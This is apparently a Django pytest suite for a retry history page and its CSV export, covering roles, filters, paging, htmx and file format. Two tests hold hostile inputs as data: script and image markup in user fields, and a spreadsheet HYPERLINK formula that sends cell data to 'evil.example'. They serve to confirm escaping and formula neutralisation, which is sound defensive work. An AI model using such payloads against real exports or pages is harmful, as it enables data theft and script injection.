"""The retry history page and its CSV export: who sees what, filters, pages, and the file."""

from __future__ import annotations

import csv
import io
import logging
import re
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from kickouts.history_filters import FILTERS, USERS_CACHE_KEY, search_condition
from kickouts.models import Outcome, RetryAttempt

from .factories import follow, make_retry

HISTORY = reverse("history")
HISTORY_CSV = reverse("history_csv")


def guid() -> str:
    return str(uuid.uuid4())


# What a follow-up records of the new task, given here as the history's columns name it.
READING = {
    "new_task_status": "status",
    "new_task_finished": "finished",
    "new_task_end_date": "end_date",
}


def retry(user, **fields) -> RetryAttempt:
    """A retry record as the retry form leaves it; each has its own source task. The new
    task's reading, if given, is its follow-up's."""
    reading = {READING[name]: fields.pop(name) for name in list(fields) if name in READING}
    values = {
        "requested_by": user,
        "form_token": uuid.uuid4(),
        "source_task_guid": guid(),
        "batch_mode": "new batch",
        "payload": {"batchSettings": {"batchMode": "new batch"}},
        "outcome": Outcome.REJECTED,
    }
    values.update(fields)
    made = RetryAttempt.objects.create(**values)
    if reading or (made.outcome == Outcome.SUBMITTED and made.new_task_guid):
        follow(made, due_at=None, **reading)
    return made


def many_retries(user, count: int, *, newest: datetime | None = None) -> list[RetryAttempt]:
    """`count` retries a minute apart, the first one newest."""
    newest = newest or timezone.now()
    return RetryAttempt.objects.bulk_create(
        RetryAttempt(
            requested_by=user,
            form_token=uuid.uuid4(),
            source_task_guid=guid(),
            batch_mode="new batch",
            payload={},
            outcome=Outcome.REJECTED,
            requested_at=newest - timedelta(minutes=i),
        )
        for i in range(count)
    )


def shown(response) -> list[int]:
    """The ids of the retries on the page, top to bottom, as a reader sees them."""
    return [
        int(pk)
        for pk in re.findall(
            r'<div class="muted small">Retry #(\d+)</div>', response.content.decode()
        )
    ]


def csv_rows(response) -> list[list[str]]:
    """The rows, read as Excel reads them: UTF-8 announced by its byte-order mark."""
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


# --- who sees what ------------------------------------------------------------------------


def test_a_signed_out_visitor_is_sent_to_sign_in(client, db):
    """The page and the CSV both redirect to the sign-in page."""
    for url in (HISTORY, HISTORY_CSV):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login") + "?next=")


def test_a_signed_out_htmx_request_sends_the_whole_page_to_sign_in(client, db):
    """htmx would swap a login page into the results; HX-Redirect moves the whole page."""
    response = client.get(HISTORY, {"outcome": "rejected"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert response["HX-Redirect"].startswith(reverse("login") + "?next=")


def test_a_user_with_no_role_is_refused_and_the_refusal_is_logged(outsider_client, caplog):
    """Nora, in no group, gets 403 for the page and the CSV, and the log says who tried."""
    caplog.set_level(logging.WARNING, logger="kickouts.access")
    assert outsider_client.get(HISTORY).status_code == 403
    assert outsider_client.get(HISTORY_CSV).status_code == 403
    refusals = [r.getMessage() for r in caplog.records if r.name == "kickouts.access"]
    assert any("nora" in m and HISTORY in m for m in refusals)
    assert any("nora" in m and HISTORY_CSV in m for m in refusals)


def test_a_supervisor_sees_every_retry(supervisor_client, clerk, other_clerk):
    """Sam sees Carla's and Oscar's retries, and may narrow them to one person."""
    carlas = retry(clerk)
    oscars = retry(other_clerk)
    response = supervisor_client.get(HISTORY)
    assert set(shown(response)) == {carlas.pk, oscars.pk}
    body = response.content.decode()
    assert "Retry history" in body and 'name="user"' in body
    assert "Carla Clerk (carla)" in body and "Oscar Other (oscar)" in body


def test_a_clerk_sees_only_her_own_retries(clerk_client, clerk, other_clerk):
    """Carla sees hers, never Oscar's, and has no "asked by" filter to try."""
    carlas = retry(clerk)
    retry(other_clerk)
    response = clerk_client.get(HISTORY)
    assert shown(response) == [carlas.pk]
    body = response.content.decode()
    assert "My retries" in body and 'name="user"' not in body
    # Asking for Oscar's by URL changes nothing: the field does not exist for her.
    assert shown(clerk_client.get(HISTORY, {"user": other_clerk.pk})) == [carlas.pk]


def test_the_people_filter_offers_only_people_with_retries(supervisor_client, clerk, outsider):
    """Nora never retried anything, so she is not in the list."""
    retry(clerk)
    body = supervisor_client.get(HISTORY).content.decode()
    assert "Carla Clerk" in body and "Nora Nogroup" not in body


# --- what a row shows ---------------------------------------------------------------------


def test_a_row_shows_when_who_tasks_mode_outcome_and_final_status(supervisor_client, clerk):
    """Each row links to its retry page and to both tasks; badges carry words, not colour."""
    source, new = guid(), guid()
    done = retry(
        clerk,
        source_task_guid=source,
        batch_mode="smart batch",
        batch_code="AP-2026-11",
        outcome=Outcome.SUBMITTED,
        new_task_guid=new,
        new_task_status="Completed with kickouts",
        new_task_finished=True,
        requested_at=datetime(2026, 11, 20, 9, 12, 31, tzinfo=UTC),
    )
    body = supervisor_client.get(HISTORY).content.decode()
    assert reverse("retry_detail", args=[done.pk]) in body
    assert reverse("task_detail", args=[source]) in body
    assert reverse("task_detail", args=[new]) in body
    assert '<time datetime="2026-11-20T09:12:31Z"' in body
    assert "Carla Clerk" in body and "smart batch" in body and "AP-2026-11" in body
    assert 'class="badge outcome-submitted">Submitted<' in body
    assert "Completed with kickouts" in body


def test_text_in_a_row_is_escaped(supervisor_client, django_user_model):
    """Names, batch codes and statuses are shown as text, never as markup."""
    mallory = django_user_model.objects.create_user(
        username="mallory", first_name="<b>Mal</b>", last_name="<script>x()</script>"
    )
    retry(
        mallory,
        batch_code="<i>AP</i>",
        outcome=Outcome.SUBMITTED,
        new_task_guid=guid(),
        new_task_status="Done <img src=x>",
        new_task_finished=True,
    )
    body = supervisor_client.get(HISTORY).content.decode()
    assert "&lt;b&gt;Mal&lt;/b&gt; &lt;script&gt;x()&lt;/script&gt;" in body
    assert "batch &lt;i&gt;AP&lt;/i&gt;" in body and "Done &lt;img src=x&gt;" in body
    assert "<script>x()" not in body and "<i>AP</i>" not in body and "<img src=x>" not in body


def test_a_new_task_still_running_says_running_and_an_unsent_retry_has_none(
    supervisor_client, clerk
):
    """Running for a submitted retry whose task has not ended; a dash where nothing was sent."""
    retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Processing")
    retry(clerk, outcome=Outcome.NOT_SENT)
    body = supervisor_client.get(HISTORY).content.decode()
    assert '<span class="muted">running</span>' in body
    assert "Processing" not in body  # not final yet
    assert 'class="badge outcome-not_sent">Not sent<' in body


def test_the_table_has_a_caption_and_scoped_headers_and_the_filters_have_labels(
    supervisor_client, clerk
):
    """Screen readers get a caption, column headers and a row header; every input a label."""
    retry(clerk)
    body = " ".join(supervisor_client.get(HISTORY).content.decode().split())
    assert "<caption> Retries, newest first </caption>" in body
    assert body.count('<th scope="col">') == 10 and '<th scope="row">' in body
    for name in FILTERS:
        assert f'<label for="id_{name}">' in body, name
    assert 'aria-describedby="id_q_helptext"' in body and 'id="id_q_helptext"' in body


# --- order and pages ----------------------------------------------------------------------


def test_retries_are_listed_newest_first(supervisor_client, clerk):
    """Newest first; retries made in the same instant fall back to the newest id."""
    now = timezone.now()
    old = retry(clerk, requested_at=now - timedelta(days=2))
    same_a = retry(clerk, requested_at=now)
    same_b = retry(clerk, requested_at=now)
    middle = retry(clerk, requested_at=now - timedelta(hours=1))
    assert shown(supervisor_client.get(HISTORY)) == [same_b.pk, same_a.pk, middle.pk, old.pk]


def test_pages_hold_twenty_five_and_go_older_and_back_newer(supervisor_client, clerk):
    """60 retries: 25, 25 and 10, with Older and Newer links that keep the filters."""
    retries = many_retries(clerk, 60)
    ids = [r.pk for r in retries]

    first = supervisor_client.get(HISTORY, {"batch_mode": "new batch"})
    assert shown(first) == ids[:25]
    assert first.context["newer_url"] is None
    older = first.context["older_url"]
    assert "batch_mode=new+batch" in older and "before=" in older

    second = supervisor_client.get(older)
    assert shown(second) == ids[25:50]
    third = supervisor_client.get(second.context["older_url"])
    assert shown(third) == ids[50:]
    assert third.context["older_url"] is None

    back = supervisor_client.get(third.context["newer_url"])
    assert shown(back) == ids[25:50]
    assert shown(supervisor_client.get(back.context["newer_url"])) == ids[:25]
    body = second.content.decode()
    assert 'rel="next"' in body and 'rel="prev"' in body and "25 retries on this page" in body


def test_a_reader_can_choose_fifty_or_a_hundred_a_page(supervisor_client, clerk):
    """25 a page unless chosen; 50 or 100 stay chosen in the Older link; anything else is
    refused with what to choose."""
    ids = [r.pk for r in many_retries(clerk, 120)]
    fifty = supervisor_client.get(HISTORY, {"per_page": "50"})
    assert shown(fifty) == ids[:50]
    assert "per_page=50" in fifty.context["older_url"]
    assert shown(supervisor_client.get(fifty.context["older_url"])) == ids[50:100]
    assert '<option value="50" selected>' in fifty.content.decode()
    assert "matching the filters" not in fifty.content.decode()  # a page size narrows nothing
    assert shown(supervisor_client.get(HISTORY, {"per_page": "100"})) == ids[:100]
    default = supervisor_client.get(HISTORY, {"outcome": "rejected", "per_page": "25"})
    assert default.context["this_url"] == f"{HISTORY}?outcome=rejected"
    refused = supervisor_client.get(HISTORY, {"per_page": "1000"}).content.decode()
    assert "Choose 25, 50 or 100 retries a page." in refused


def test_pages_stay_in_order_when_many_retries_share_one_instant(supervisor_client, clerk):
    """The page boundary falls between retries with the same time without losing any."""
    when = timezone.now()
    same = [retry(clerk, requested_at=when).pk for _ in range(30)]
    first = supervisor_client.get(HISTORY)
    second = supervisor_client.get(first.context["older_url"])
    assert shown(first) + shown(second) == sorted(same, reverse=True)


def test_a_page_asks_the_database_the_same_number_of_times_for_5_or_60_rows(
    supervisor_client, clerk_client, clerk, other_clerk
):
    """No query per row: the people and the columns shown come with the one page query."""
    for i in range(5):
        retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Failed")
        retry(other_clerk, new_task_finished=True, new_task_status="Completed", batch_code=f"B{i}")
    supervisor_client.get(HISTORY)  # fills the cached list of final statuses

    def queries(client) -> int:
        with CaptureQueriesContext(connection) as context:
            assert client.get(HISTORY).status_code == 200
        return len(context.captured_queries)

    few = {"supervisor": queries(supervisor_client), "clerk": queries(clerk_client)}
    for i in range(55):
        retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid(), new_task_status="Failed")
        retry(other_clerk, new_task_finished=True, new_task_status="Completed", batch_code=f"C{i}")
    many = {"supervisor": queries(supervisor_client), "clerk": queries(clerk_client)}
    assert few == many
    assert many["supervisor"] <= 9 and many["clerk"] <= 8


# --- filters ------------------------------------------------------------------------------


def test_someone_newer_than_the_cached_people_list_can_still_be_chosen(
    supervisor_client, clerk, other_clerk
):
    """The people list is cached for a minute; Oscar's first retry is newer than that list,
    so he is not offered yet, but a link or bookmark that chooses him still works."""
    retry(clerk)
    assert "Oscar Other" not in supervisor_client.get(HISTORY).content.decode()
    oscars = retry(other_clerk)
    response = supervisor_client.get(HISTORY, {"user": other_clerk.pk})
    assert shown(response) == [oscars.pk]
    assert "could not be used" not in response.content.decode()
    cache.delete(USERS_CACHE_KEY)  # a minute later
    body = supervisor_client.get(HISTORY).content.decode()
    assert f'<option value="{other_clerk.pk}">Oscar Other (oscar)</option>' in body


def test_the_filter_fields_show_each_requests_own_values(supervisor_client, clerk, other_clerk):
    """A choice made in one request shows there, and not in the next one without it."""
    retry(clerk)
    retry(other_clerk)
    selected = f'<option value="{other_clerk.pk}" selected>'
    assert selected not in supervisor_client.get(HISTORY).content.decode()
    assert selected in supervisor_client.get(HISTORY, {"user": other_clerk.pk}).content.decode()
    assert selected not in supervisor_client.get(HISTORY).content.decode()
    dated = supervisor_client.get(HISTORY, {"date_from": "2026-01-05"}).content.decode()
    assert 'value="2026-01-05"' in dated
    assert 'value="2026-01-05"' not in supervisor_client.get(HISTORY).content.decode()


def test_someone_who_does_not_exist_cannot_be_chosen(supervisor_client, clerk):
    retry(clerk)
    body = supervisor_client.get(HISTORY, {"user": 987654}).content.decode()
    assert "Choose someone from the list" in body
    assert 'aria-invalid="true"' in body


def test_a_supervisor_filters_by_who_asked(supervisor_client, clerk, other_clerk):
    """Choosing Oscar shows only Oscar's retries."""
    retry(clerk)
    oscars = retry(other_clerk)
    assert shown(supervisor_client.get(HISTORY, {"user": other_clerk.pk})) == [oscars.pk]


def test_the_date_range_is_whole_days_in_the_site_time_zone(supervisor_client, clerk, settings):
    """In New York, 04:30 UTC on the 20th is still the 19th; both ends are included."""
    settings.TIME_ZONE = "America/New_York"
    on_19th_late = retry(clerk, requested_at=datetime(2026, 11, 20, 4, 30, tzinfo=UTC))
    on_20th_early = retry(clerk, requested_at=datetime(2026, 11, 20, 5, 0, tzinfo=UTC))
    on_21st_last = retry(clerk, requested_at=datetime(2026, 11, 22, 4, 59, tzinfo=UTC))
    on_22nd = retry(clerk, requested_at=datetime(2026, 11, 22, 5, 0, tzinfo=UTC))

    def between(start, end):
        return set(shown(supervisor_client.get(HISTORY, {"date_from": start, "date_to": end})))

    assert between("2026-11-20", "2026-11-21") == {on_20th_early.pk, on_21st_last.pk}
    assert between("2026-11-19", "2026-11-19") == {on_19th_late.pk}
    assert between("2026-11-22", "") == {on_22nd.pk}
    assert between("", "2026-11-19") == {on_19th_late.pk}


def test_filter_by_outcome(supervisor_client, clerk):
    """Only the rejected retries."""
    rejected = retry(clerk, outcome=Outcome.REJECTED)
    retry(clerk, outcome=Outcome.NOT_SENT)
    retry(clerk, outcome=Outcome.UNKNOWN)
    assert shown(supervisor_client.get(HISTORY, {"outcome": "rejected"})) == [rejected.pk]


def test_filter_by_final_status_or_still_running(supervisor_client, clerk):
    """The choices are the statuses new tasks ended with, plus "still running"."""
    done = dict(outcome=Outcome.SUBMITTED, new_task_finished=True)
    failed = retry(clerk, **done, new_task_guid=guid(), new_task_status="Failed")
    completed = retry(clerk, **done, new_task_guid=guid(), new_task_status="Completed")
    running = retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=guid())
    retry(clerk, outcome=Outcome.REJECTED)

    response = supervisor_client.get(HISTORY, {"final_status": "Failed"})
    assert shown(response) == [failed.pk]
    choices = [value for value, _ in response.context["form"].fields["final_status"].choices]
    assert choices == ["", "running", "still_kicking_out", "Completed", "Failed"]
    assert shown(supervisor_client.get(HISTORY, {"final_status": "Completed"})) == [completed.pk]
    assert shown(supervisor_client.get(HISTORY, {"final_status": "running"})) == [running.pk]


def test_filter_by_batch_mode(supervisor_client, clerk):
    """Only the "use pending batch" retries."""
    pending = retry(clerk, batch_mode="use pending batch")
    retry(clerk, batch_mode="smart batch")
    response = supervisor_client.get(HISTORY, {"batch_mode": "use pending batch"})
    assert shown(response) == [pending.pk]


def test_filters_combine(supervisor_client, clerk, other_clerk):
    """Who, outcome and batch mode together narrow to the one retry that has all three."""
    wanted = retry(clerk, outcome=Outcome.UNKNOWN, batch_mode="smart batch")
    retry(clerk, outcome=Outcome.UNKNOWN, batch_mode="new batch")
    retry(other_clerk, outcome=Outcome.UNKNOWN, batch_mode="smart batch")
    retry(clerk, outcome=Outcome.REJECTED, batch_mode="smart batch")
    query = {"user": clerk.pk, "outcome": "unknown", "batch_mode": "smart batch"}
    assert shown(supervisor_client.get(HISTORY, query)) == [wanted.pk]


def test_search_finds_a_source_or_new_task_by_its_whole_guid(supervisor_client, clerk):
    """Pasting a GUID, in any case, finds the retries of that task and the one that made it."""
    task = guid()
    of_task = retry(clerk, source_task_guid=task)
    made_task = retry(clerk, outcome=Outcome.SUBMITTED, new_task_guid=task)
    retry(clerk)
    response = supervisor_client.get(HISTORY, {"q": f"  {task.upper()} "})
    assert set(shown(response)) == {of_task.pk, made_task.pk}


def test_search_finds_a_task_by_the_start_of_its_guid(supervisor_client, clerk):
    """The first characters shown in the table are enough; a carry in the range is exact."""
    ab3f = retry(clerk, source_task_guid="ab3fffff-0000-4000-8000-000000000001")
    ab40 = retry(clerk, source_task_guid="ab400000-0000-4000-8000-000000000002")
    new_ab3f = retry(clerk, new_task_guid="ab3f0000-0000-4000-8000-000000000003")
    retry(clerk, source_task_guid="ab3effff-0000-4000-8000-000000000004")

    def search(term):
        return set(shown(supervisor_client.get(HISTORY, {"q": term})))

    assert search("ab3f") == {ab3f.pk, new_ab3f.pk}
    assert search("ab3fffff") == {ab3f.pk}
    assert search("ab3fffff-") == {ab3f.pk}
    assert search("ab4") == {ab40.pk}
    assert search("ab3fffff-0000-4000-8000-000000000001") == {ab3f.pk}


def test_search_finds_a_whole_batch_code_or_words_of_the_import_note(supervisor_client, clerk):
    """Batch codes match whole; notes match any part, in any case."""
    coded = retry(clerk, batch_code="AP-2026-11-20")
    noted = retry(clerk, import_note="Retry after fixing meter 10023456 for Main St")
    retry(clerk, batch_code="AP-2026-11-21", import_note="something else")

    def search(term):
        return set(shown(supervisor_client.get(HISTORY, {"q": term})))

    assert search("AP-2026-11-20") == {coded.pk}
    assert search("fixing METER") == {noted.pk}
    # Eight digits look like the start of a GUID, but may be an account number in a note.
    assert search("10023456") == {noted.pk}
    assert search("no such words") == set()


def test_invalid_filters_get_a_clear_message_not_an_error_page(supervisor_client, clerk):
    """Each bad value is named beside its field; no retries are shown until it is fixed."""
    retry(clerk)
    cases = {
        "date_from": ({"date_from": "2026-13-45"}, "Enter a date like 2026-11-20."),
        "date_to": (
            {"date_from": "2026-11-20", "date_to": "2026-11-19"},
            "Choose a day on or after “From”.",
        ),
        "date_to year": ({"date_to": "1066-10-14"}, "Enter a date between 2000 and 2099."),
        "outcome": ({"outcome": "exploded"}, "Choose an outcome from the list."),
        "batch_mode": ({"batch_mode": "any"}, "Choose a batch mode from the list."),
        "final_status": ({"final_status": "Vanished"}, "No retry’s new task ended “Vanished”"),
        "user": ({"user": "999999"}, "that user has no retries"),
        "user text": ({"user": "sam"}, "that user has no retries"),
        "user huge": ({"user": "9" * 30}, "that user has no retries"),
        "search": ({"q": "x" * 201}, "at most 200 characters"),
        "cursor": ({"before": "yesterday"}, "This page link is broken or out of date"),
    }
    for name, (query, message) in cases.items():
        response = supervisor_client.get(HISTORY, query)
        assert response.status_code == 200, name
        body = response.content.decode()
        assert message in body, name
        assert "Some filters could not be used" in body, name
        assert response.context["page"] is None, name


def test_the_empty_states_say_why_and_how_to_clear(clerk_client, supervisor_client, clerk):
    """A clerk with no retries is told so; filters that match nothing say how to clear them."""
    body = clerk_client.get(HISTORY).content.decode()
    assert "You have not retried any kickouts yet" in body

    retry(clerk, outcome=Outcome.REJECTED)
    body = clerk_client.get(HISTORY, {"outcome": "unknown"}).content.decode()
    assert "No retries match these filters" in body
    assert f'<a href="{HISTORY}">clear the filters</a>' in body
    body = supervisor_client.get(HISTORY, {"q": "nothing like it"}).content.decode()
    assert "No retries match these filters" in body


# --- htmx ---------------------------------------------------------------------------------


def test_an_htmx_filter_change_gets_only_the_results(supervisor_client, clerk):
    """The results partial, the form's messages out of band, and a clean address to push."""
    rejected = retry(clerk, outcome=Outcome.REJECTED)
    retry(clerk, outcome=Outcome.UNKNOWN)
    query = {"user": "", "date_from": "", "outcome": "rejected", "q": ""}
    response = supervisor_client.get(HISTORY, query, HTTP_HX_REQUEST="true")
    body = response.content.decode()
    assert body.strip().startswith('<div id="history-results">')
    assert "<html" not in body and "<form" not in body
    assert shown(response) == [rejected.pk]
    assert 'id="filter-errors" class="filter-errors" role="alert" hx-swap-oob="true"' in body
    assert response["HX-Push-Url"] == f"{HISTORY}?outcome=rejected"


def test_an_htmx_filter_with_a_bad_value_shows_the_message_with_status_200(supervisor_client, db):
    """htmx does not swap 4xx answers, so the message comes with 200."""
    response = supervisor_client.get(HISTORY, {"date_from": "soon"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert "Enter a date like 2026-11-20." in response.content.decode()


def test_the_back_button_gets_the_whole_page(supervisor_client, db):
    """htmx restoring history from the server needs a full page, not the fragment."""
    response = supervisor_client.get(
        HISTORY, HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true"
    )
    assert "<html" in response.content.decode()


def test_the_filter_form_works_without_javascript(supervisor_client, clerk):
    """A plain GET form with an Apply button, whose values come back filled in."""
    retry(clerk, batch_mode="smart batch")
    response = supervisor_client.get(HISTORY, {"batch_mode": "smart batch", "q": "AP-1"})
    body = response.content.decode()
    assert re.search(rf'method="get"\s+action="{HISTORY}"', body)
    assert '<button type="submit">Apply</button>' in body
    assert '<option value="smart batch" selected>' in body and 'value="AP-1"' in body


@pytest.mark.postgres
def test_a_note_search_on_postgresql_reads_the_trigram_index(supervisor_client, clerk):
    """Words from a note are found through the trigram index, not by reading every row."""
    if connection.vendor != "postgresql":
        pytest.skip("the trigram index is PostgreSQL's; `make test` runs this on PostgreSQL")
    wanted = retry(clerk, import_note="Fixed the vendor alias for Zephyr Gas")
    retry(clerk, import_note="Nothing to see here")
    response = supervisor_client.get(HISTORY, {"q": "zephyr"})
    assert [r.pk for r in response.context["page"].retries] == [wanted.pk]
    with connection.cursor() as cursor:
        # A handful of rows: make the planner show which index it can use, not the cheapest.
        cursor.execute("SET LOCAL enable_seqscan = off")
    plan = RetryAttempt.objects.filter(search_condition("zephyr")).order_by().explain()
    assert "retry_note_trgm" in plan


# --- CSV ----------------------------------------------------------------------------------


def test_the_page_links_to_a_csv_of_the_same_filters(supervisor_client, clerk):
    """The link carries the filters in use, and none of the paging."""
    many_retries(clerk, 60)
    first = supervisor_client.get(HISTORY, {"outcome": "rejected", "q": ""})
    assert first.context["csv_url"] == f"{HISTORY_CSV}?outcome=rejected"
    second = supervisor_client.get(first.context["older_url"])
    assert second.context["csv_url"] == f"{HISTORY_CSV}?outcome=rejected"
    assert "Download CSV of these rows" in second.content.decode()


def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
    """Times are UTC ISO 8601 whatever the site's zone; the file is an attachment; both
    imports' numbers and the requester's full name stand beside the GUIDs and the login."""
    settings.TIME_ZONE = "America/New_York"
    done = retry(
        clerk,
        batch_mode="use existing batch",
        batch_code="B-7",
        outcome=Outcome.SUBMITTED,
        upstream_status_code=200,
        source_task_id=47223,
        new_task_guid=guid(),
        new_task_id=47301,
        new_task_status="Completed",
        new_task_finished=True,
        new_task_end_date=datetime(2026, 11, 20, 9, 20, 5, 123456, tzinfo=UTC),
        import_note="Fixed the meter",
        requested_at=datetime(2026, 11, 20, 9, 12, 31, 999999, tzinfo=UTC),
    )
    response = supervisor_client.get(HISTORY_CSV)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="retry-history-')
    header, row = csv_rows(response)
    values = dict(zip(header, row, strict=True))
    assert header == [
        "id",
        "requested_at_utc",
        "requested_by",
        "requested_by_name",
        "source_import",
        "source_task_guid",
        "batch_mode",
        "batch_code",
        "outcome",
        "upstream_status_code",
        "new_import",
        "new_task_guid",
        "new_task_status",
        "new_task_end_utc",
        "import_note",
        "rows_before",
        "rows_fixed",
        "rows_still_kicked_out",
        "rows_new",
        "compared",
        "reconciled",
        "reconciled_by",
        "reconciled_at_utc",
        "reconciled_note",
        "bulk_id",
        "kind",
        "file_name",
        "file_bytes",
        "file_sha256",
    ]
    assert values == {
        "id": str(done.pk),
        "requested_at_utc": "2026-11-20T09:12:31Z",
        "requested_by": "carla",
        "requested_by_name": "Carla Clerk",
        "source_import": "47223",
        "source_task_guid": done.source_task_guid,
        "batch_mode": "use existing batch",
        "batch_code": "B-7",
        "outcome": "submitted",
        "upstream_status_code": "200",
        "new_import": "47301",
        "new_task_guid": done.new_task_guid,
        "new_task_status": "Completed",
        "new_task_end_utc": "2026-11-20T09:20:05Z",
        "import_note": "Fixed the meter",
        # never compared, never reconciled, in no bulk
        **dict.fromkeys(header[15:25], ""),
        # a re-import: no file
        "kind": "reimport",
        "file_name": "",
        "file_bytes": "",
        "file_sha256": "",
    }


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(supervisor_client, clerk, start):
    """A note or batch code starting with a formula character gets a leading quote."""
    note = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    retry(clerk, import_note=note, batch_code=f"{start}1+1")
    (header, row) = csv_rows(supervisor_client.get(HISTORY_CSV))
    assert row[header.index("import_note")] == "'" + note
    assert row[header.index("batch_code")] == f"'{start}1+1"


def test_the_csv_keeps_to_the_filters_and_to_who_may_see(clerk_client, clerk, other_clerk):
    """Carla's CSV holds only her rejected retries, newest first."""
    older = retry(clerk, requested_at=timezone.now() - timedelta(hours=1))
    newer = retry(clerk)
    retry(clerk, outcome=Outcome.NOT_SENT)
    retry(other_clerk)
    rows = csv_rows(clerk_client.get(HISTORY_CSV, {"outcome": "rejected"}))
    assert [row[0] for row in rows[1:]] == [str(newer.pk), str(older.pk)]
    assert {row[2] for row in rows[1:]} == {"carla"}


def test_a_csv_with_a_bad_filter_is_refused_with_the_reason(supervisor_client, db):
    """A hand-edited link gets 400 and what was wrong, never a 500."""
    response = supervisor_client.get(HISTORY_CSV, {"date_to": "tomorrow"})
    assert response.status_code == 400
    assert "Enter a date like 2026-11-20." in response.content.decode()


def test_a_large_csv_streams_in_pieces(supervisor_client, clerk):
    """5,000 rows arrive as many pieces from an iterator, not one string built in memory."""
    many_retries(clerk, 5000)
    response = supervisor_client.get(HISTORY_CSV)
    assert response.streaming
    pieces = list(response.streaming_content)
    assert len(pieces) > 10
    assert max(len(p) for p in pieces) < sum(len(p) for p in pieces) / 5
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert len(rows) == 5001
    assert len({row[0] for row in rows[1:]}) == 5000


def test_the_csv_opens_in_excel_with_accents_intact(supervisor_client, django_user_model):
    """A byte-order mark first, so Excel reads UTF-8: "Seán" stays "Seán"; formulas stay text."""
    sean = django_user_model.objects.create_user("seán", first_name="Seán", last_name="Ó Brien")
    make_retry(sean, batch_code='=HYPERLINK("x")', import_note="Café crème, über-prüft")
    body = b"".join(supervisor_client.get(HISTORY_CSV).streaming_content)
    assert body.startswith(b"\xef\xbb\xbfid,requested_at_utc,")
    assert "seán".encode() in body and "Café crème, über-prüft".encode() in body
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert header[0] == "id"
    assert row[header.index("requested_by")] == "seán"
    assert row[header.index("batch_code")] == '\'=HYPERLINK("x")'


def test_the_history_finds_a_retry_by_either_imports_number_and_shows_both(
    supervisor_client, clerk
):
    """Sam types 47223 (the import a clerk named) or 47301 (the new import): the retry is
    found, and its row says "Import 47223" and "Import 47301", not GUIDs."""
    wanted = retry(
        clerk,
        outcome=Outcome.SUBMITTED,
        source_task_id=47223,
        new_task_guid=guid(),
        new_task_id=47301,
    )
    retry(clerk, source_task_id=47224)
    for number in ("47223", "47301", "#47223"):
        page = supervisor_client.get(HISTORY, {"q": number})
        assert [r.pk for r in page.context["page"].retries] == [wanted.pk], number
    text = supervisor_client.get(HISTORY, {"q": "47223"}).content.decode()
    assert ">Import 47223</a>" in text and ">Import 47301</a>" in text
